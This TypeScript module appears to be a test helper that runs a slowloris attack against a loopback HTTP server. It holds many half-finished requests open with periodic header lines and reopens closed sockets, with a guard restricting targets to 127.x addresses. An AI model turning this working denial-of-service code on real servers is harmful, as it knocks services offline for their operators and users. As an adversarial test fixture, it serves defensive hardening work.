/**
 * A slowloris attacker for the adversarial tests: keeps `sockets`
 * connections to a loopback HTTP server, each sending a request line and
 * then one header line every `lineGapMs`, never finishing the headers;
 * a socket the server closes is reopened after `reopenDelayMs` (at most
 * `maxOpens` in all), so the attack keeps its pressure as long as it runs.
 */
import { connect, type Socket } from 'node:net'

/** A running slowloris. */
export interface Slowloris {
  /** Sockets opened so far. */
  opened: () => number
  /** Sockets connected now. */
  connected: () => number
  /** True while the attack still reopens what the server closes (maxOpens not reached). */
  live: () => boolean
  /** Stops and destroys every socket. */
  stop: () => void
}

/** Options of startSlowloris. */
export interface SlowlorisInit {
  host: string
  port: number
  /** Connections kept open. */
  sockets: number
  /** Source address (127.x) of the attack. Default: the OS's choice. */
  localAddress?: string
  /** Time between header lines, ms. Default 1000 (the attack). */
  lineGapMs?: number
  /** Most sockets opened over the run. Default 100 x sockets. */
  maxOpens?: number
  /** Wait before reopening a closed socket, ms. Default 250. */
  reopenDelayMs?: number
}

/** Starts the attack (loopback targets only). */
export function startSlowloris (init: SlowlorisInit): Slowloris {
  if (!init.host.startsWith('127.')) throw new Error(`attacks go to loopback only, not ${init.host}`)
  const live = new Set<Socket>()
  let connected = 0
  let opened = 0
  let stopped = false
  const maxOpens = init.maxOpens ?? 100 * init.sockets
  const open = (): void => {
    if (stopped || opened >= maxOpens) return
    opened++
    const s = connect({ host: init.host, port: init.port, localAddress: init.localAddress })
    live.add(s)
    let timer: ReturnType<typeof setInterval> | undefined
    let wasConnected = false
    s.once('connect', () => {
      wasConnected = true
      connected++
      s.write(`GET /c/x HTTP/1.1\r\nHost: ${init.host}:${init.port}\r\n`)
      timer = setInterval(() => { if (!s.destroyed) s.write(`X-${opened}: ${Date.now()}\r\n`) }, init.lineGapMs ?? 1000)
    })
    s.on('error', () => {})
    s.once('close', () => {
      if (timer != null) clearInterval(timer)
      if (wasConnected) connected--
      live.delete(s)
      // Reopen after a pause, so a refused socket does not spin.
      setTimeout(open, init.reopenDelayMs ?? 250)
    })
  }
  for (let i = 0; i < init.sockets; i++) open()
  return {
    opened: () => opened,
    connected: () => connected,
    live: () => !stopped && opened < maxOpens,
    stop: () => {
      stopped = true
      for (const s of live) s.destroy()
      live.clear()
    }
  }
}
